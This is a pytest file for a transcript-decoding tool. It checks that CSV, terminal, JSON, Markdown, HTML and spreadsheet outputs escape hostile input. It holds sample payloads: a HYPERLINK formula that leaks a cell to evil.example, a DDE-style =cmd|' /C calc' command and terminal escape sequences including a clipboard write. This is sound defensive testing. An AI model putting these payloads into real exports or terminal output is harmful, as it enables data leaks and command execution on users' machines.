"""Hostile transcripts and dictionaries through every output: escaping pinned (issue 11, item 4).

The hostile text carries a spreadsheet formula, terminal escape sequences (clear screen,
window title, OSC 52 clipboard write), C0/C1 controls, line breaks that would forge lines,
Markdown block starts, JSON Lines breakers (U+2028, U+2029, U+0085) and a lone surrogate.
"""
from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import html5lib
import pytest
from markdown_it import MarkdownIt

from jargon import escape
from jargon.contributions import RenderOptions
from jargon.model import DecodedDocument, Dictionary, Document, Entry, Match, Segment
from jargon.plugins import get_plugin_manager

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x9b31m"
HOSTILE = (f"{FORMULA} \n- forged item\r\n---\n# heading\n| a | b |\n[link](http://evil.example) "
           f"{ESCAPES} \u2028\u2029\u0085 \ud800 \x00\x01\x7f *em* `code` <b>x</b>")

EVIL = Entry("evil", "Верхнеуровнево", HOSTILE, tags=("=cmd|' /C calc'!A0", "t\x1bag"))
FORMULA_TEXT = Entry("formula", "+SUM(A1:A9)", "-2+3 @SUM(1)")
EVIL_DICT = Dictionary("hostile", (EVIL, FORMULA_TEXT))
BAD_NAME = "evil\x1b]0;title\x07\udce9.vtt"      # an ESC and an undecodable byte (os.fsdecode) in the name


def hostile_docs() -> list[DecodedDocument]:
    speaker = "\x1b[31mБорис\nforged: line"
    text = f"Верхнеуровнево всё ясно {ESCAPES} \ud800.\n=1+1 +SUM(A1:A9) и всё\n"
    start = text.index("+SUM")
    doc = Document(text=text, name=BAD_NAME, segments=[Segment(0, len(text) - 1, speaker, 1.0, 9.0)],
                   path=Path(BAD_NAME))
    matches = [Match(0, len("Верхнеуровнево"), "Верхнеуровнево", EVIL, "hostile", 97.0),
               Match(start, start + len("+SUM(A1:A9)"), "+SUM(A1:A9)", FORMULA_TEXT, "hostile", 90.0)]
    return [DecodedDocument(doc, matches)]


def render(fmt: str, docs: list[DecodedDocument] | None = None) -> str | bytes:
    f = get_plugin_manager().output_formats()[fmt]
    out: io.BytesIO | io.StringIO = io.BytesIO() if f.binary else io.StringIO()
    f.write(out, docs if docs is not None else hostile_docs(), RenderOptions(dictionaries=[EVIL_DICT]))
    return out.getvalue()


# -- the functions -----------------------------------------------------------------

@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_csv_cell_neutralises_formula_starts(cell):
    assert escape.csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", ["plain", "a=b", " =x", 3, -2.5, None, ""])
def test_csv_cell_leaves_other_values(value):
    assert escape.csv_cell(value) == value


def test_csv_cell_is_capped_with_a_visible_marker():
    cell = escape.csv_cell("x" * 100_000)
    assert len(cell) == escape.CSV_CELL_LIMIT and cell.endswith(escape.CUT_MARK)
    assert escape.csv_cell("y" * escape.CSV_CELL_LIMIT) == "y" * escape.CSV_CELL_LIMIT


def test_terminal_shows_controls_visibly_on_one_line():
    shown = escape.terminal(f"a{ESCAPES}\nb\rc\x00\u202e\udce9\ud800\tend")
    assert shown == ("a\\x1b[2J\\x1b]0;pwned\\x07\\x1b]52;c;ZXZpbA==\\x07\\x9b31m\\nb\\rc\\x00\\u202e\\xe9"
                     "\\ud800\tend")
    assert shown.isprintable() is False and "\x1b" not in shown and "\n" not in shown
    assert escape.terminal("Коллеги, привет") == "Коллеги, привет"


def test_terminal_block_keeps_line_ends():
    assert escape.terminal_block("a\x1b[2J\r\nb\n") == "a\\x1b[2J\nb\n"


def test_unicode_text_replaces_lone_surrogates_only():
    assert escape.unicode_text("a\ud800b\udfffc😀") == "a\ufffdb\ufffdc😀"


def test_json_text_escapes_line_separators():
    raw = json.dumps({"k": "a\u2028b\u2029c\u0085d\ud800"}, ensure_ascii=False)
    safe = escape.json_text(raw)
    assert json.loads(safe) == {"k": "a\u2028b\u2029c\u0085d\ufffd"}
    assert len(safe.splitlines()) == 1


def test_markdown_line_does_not_start_a_block():
    for start in ("- x", "+ x", "1. x", "2) x", "=== x", "    indented code"):
        html = MarkdownIt("commonmark").render(escape.markdown_line(escape.markdown_inline(start)) + "\n")
        assert html.startswith("<p>"), (start, html)


# -- every format ------------------------------------------------------------------

ALL_FORMATS = ("text", "json", "jsonl", "csv", "markdown", "html", "qdc", "qdpx", "xlsx")


def test_every_format_is_installed():
    assert set(ALL_FORMATS) <= set(get_plugin_manager().output_formats())


@pytest.mark.parametrize("fmt", ALL_FORMATS)
def test_every_format_writes_lone_surrogates_as_replacement_characters(fmt):
    out = render(fmt)
    if isinstance(out, bytes):
        with zipfile.ZipFile(io.BytesIO(out)) as z:
            texts = [z.read(n).decode("utf-8") for n in z.namelist()]
        assert any("\ufffd" in t for t in texts)
    else:
        out.encode("utf-8")          # strict: no surrogate left
        assert "\ufffd" in out or "\\ufffd" in out or "\\xe9" in out


def test_csv_has_no_formula_cell_and_keeps_the_text():
    rows = list(csv.reader(io.StringIO(render("csv"))))
    cells = [c for row in rows[1:] for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in {c.split(" \n")[0] for c in cells}       # the meaning, neutralised
    assert "'+SUM(A1:A9)" in cells and "'-2+3 @SUM(1)" in cells


def test_csv_cells_are_capped():
    long = Entry("long", "Верхнеуровнево", "слово " * 10_000)
    doc = Document(text="Верхнеуровнево\n", name="a.txt", path=Path("a.txt"))
    docs = [DecodedDocument(doc, [Match(0, 14, "Верхнеуровнево", long, "d", 99.0)])]
    rows = list(csv.reader(io.StringIO(render("csv", docs))))
    meaning = rows[1][rows[0].index("meaning")]
    assert len(meaning) == escape.CSV_CELL_LIMIT and meaning.endswith(escape.CUT_MARK)


def test_text_format_has_no_raw_escape_and_one_line_per_match():
    out = render("text")
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    lines = out.splitlines()
    assert len(lines) == 2                     # two matches: no forged line from the meaning or the speaker
    assert "\\x1b]52;" in lines[0] and "\\nforged: line" in lines[0]


def test_html_has_no_control_characters_and_parses_without_errors():
    out = render("html")
    assert not [ch for ch in out if (ord(ch) < 32 and ch not in "\t\n\r") or 0x7f <= ord(ch) <= 0x9f]
    parser = html5lib.HTMLParser()
    parser.parse(out)
    assert parser.errors == []
    assert "<b>x</b>" not in out and "&lt;b&gt;x&lt;/b&gt;" in out


def test_markdown_meaning_injects_no_list_rule_heading_table_or_link():
    out = render("markdown")
    html = MarkdownIt("commonmark").enable("table").render(out)
    assert "<li>" not in html and "<hr" not in html and "<a " not in html and "<em>" not in html
    assert "<code>" not in html.replace("<code>00:00:01</code>", "")
    assert html.count("<table>") == 3                           # the summary's: phrases, tags, files and speakers
    headings = [line for line in html.splitlines() if line.startswith("<h")]
    assert len(headings) == 3                                   # report, summary, the document


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_line_separators_are_escaped(fmt):
    out = render(fmt)
    assert not {"\u2028", "\u2029", "\u0085"} & set(out)
    if fmt == "jsonl":
        records = [json.loads(line) for line in out.splitlines()]
        assert len(records) == 2 and records[0]["meaning"].count("\u2028") == 1
    else:
        assert json.loads(out)["documents"][0]["matches"][0]["meaning"].count("\u0085") == 1


def test_qdpx_and_xlsx_keep_formulas_as_text(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "out.xlsx"
    path.write_bytes(render("xlsx"))
    wb = load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value.startswith("+SUM") for c in cells)
    with zipfile.ZipFile(io.BytesIO(render("qdpx"))) as z:
        assert "\ufffd" in z.read("project.qde").decode("utf-8")


# -- commands ----------------------------------------------------------------------

def hostile_dictionary(write) -> Path:
    meaning = HOSTILE.replace("\ud800", "").replace("\x00", "")    # what a UTF-8 TOML file can hold
    toml_meaning = json.dumps(meaning, ensure_ascii=True)           # JSON string escapes are TOML escapes
    return write("hostile.toml", f"""
        [dictionary]
        name = "hostile"
        language = "ru"

        [[entries]]
        id = "evil"
        phrase = "Верхнеуровнево"
        meaning = {toml_meaning}
        variants = ["верхнеуровнево\\u001b[2J"]
        tags = ["t\\u001bag"]
    """)


def hostile_transcript(tmp_path: Path) -> Path:
    path = tmp_path / "talk\x1b]0;pwned\x07.txt"
    path.write_text(f"\x1b[2JАнна: Верхнеуровнево всё ясно {ESCAPES}\n", encoding="utf-8")
    return path


def test_decode_text_output_and_errors_show_no_raw_escape(cli, write, tmp_path):
    d = hostile_dictionary(write)
    result = cli("decode", "-d", d, hostile_transcript(tmp_path))
    assert result.rc == 0 and result.out
    assert "\x1b" not in result.out and "\x07" not in result.out
    assert len(result.out.splitlines()) == 1 and "\\x1b]0;pwned\\x07" in result.out
    missing = cli("decode", "-d", d, tmp_path / "gone\x1b[2J.txt")
    assert missing.rc == 2 and "\x1b" not in missing.err and "gone\\x1b[2J.txt" in missing.err


def test_translate_on_a_terminal_shows_no_raw_escape(cli, write, tmp_path, monkeypatch):
    import sys

    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    result = cli("decode", "--translate", "-d", hostile_dictionary(write), hostile_transcript(tmp_path))
    assert result.rc == 0 and "\x1b" not in result.out and "\\x1b[2J" in result.out


def test_dict_show_lookup_and_list_show_no_raw_escape(cli, write):
    d = hostile_dictionary(write)
    for argv in (("dict", "show", d), ("lookup", "-d", d, "верхнеуровнево"), ("dict", "validate", d)):
        result = cli(*argv)
        assert "\x1b" not in result.out + result.err and "\x07" not in result.out, argv
        assert "\u2028" not in result.out, argv
    shown = cli("dict", "show", d).out
    assert "\\x1b]52;c;" in shown and "forged item" in shown.splitlines()[4]   # the meaning stays on its line


def test_stats_table_shows_no_raw_escape(cli, write, tmp_path):
    result = cli("stats", "-d", hostile_dictionary(write), hostile_transcript(tmp_path))
    assert result.rc == 0 and "\x1b" not in result.out


def test_plugins_table_shows_no_raw_escape(cli, write, monkeypatch, plugins_on):
    path = write("evilplugins/evil\x1b[2J.py", "X = 1\n")
    monkeypatch.setenv("JARGON_PLUGINS", str(path.parent))
    result = cli("plugins")
    assert result.rc == 0 and "evil\\x1b[2J" in result.out and "\x1b" not in result.out + result.err


# -- file names that are not UTF-8 -----------------------------------------------------

@pytest.fixture
def undecodable_name(tmp_path) -> str:
    raw = os.fsencode(str(tmp_path)) + b"/caf\xe9-\x8e\xa2.txt"       # cp866/latin-1 bytes from a Windows zip
    try:
        with open(raw, "wb") as f:
            f.write("Коллеги, какая адженда?\n".encode())
    except OSError:
        pytest.skip("this file system refuses names that are not UTF-8")
    return os.fsdecode(raw)


@pytest.mark.parametrize("fmt", ["text", "json", "jsonl", "csv", "markdown", "html", "qdc", "qdpx", "xlsx"])
def test_undecodable_file_names_never_break_o(cli, undecodable_name, tmp_path, fmt):
    out = tmp_path / f"out.{fmt}"
    result = cli("decode", "-f", fmt, "-d", "ru-corporate", undecodable_name, "-o", out)
    assert result.rc == 0, result.err
    data = out.read_bytes()
    if fmt in ("qdpx", "xlsx"):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for n in z.namelist():
                z.read(n).decode("utf-8")
    else:
        data.decode("utf-8")
        if fmt == "json":
            assert json.loads(data)["documents"][0]["file"].endswith("caf\ufffd-\ufffd\ufffd.txt")


def test_undecodable_file_names_keep_json_on_stdout_valid(run_jargon, undecodable_name):
    # text=True with strict UTF-8 decoding: invalid bytes on stdout would raise here
    result = run_jargon("decode", "-f", "json", "-d", "ru-corporate", undecodable_name)
    assert result.rc == 0, result.err
    assert json.loads(result.out)["documents"][0]["matches"]
    text = run_jargon("decode", "-d", "ru-corporate", undecodable_name)
    assert text.rc == 0 and "caf\\xe9-\\x8e\\xa2.txt" in text.out


def test_stats_csv_and_json_are_escaped(cli, write, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    vtt = "WEBVTT\n\n00:00:01.000 --> 00:00:03.000\n<v =SUM(1)>Верхнеуровнево всё ясно\u2028.\n"
    Path("=ta\u2028lk.vtt").write_text(vtt, encoding="utf-8")
    d = hostile_dictionary(write)
    rows = list(csv.reader(io.StringIO(cli("stats", "--format", "csv", "-d", d, "=ta\u2028lk.vtt").out)))
    cells = [c for row in rows[1:] for c in row]
    assert {"'=ta\u2028lk.vtt", "'=SUM(1)"} <= set(cells) and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    out = cli("stats", "--format", "json", "-d", d, "=ta\u2028lk.vtt").out
    assert "\u2028" not in out and json.loads(out)
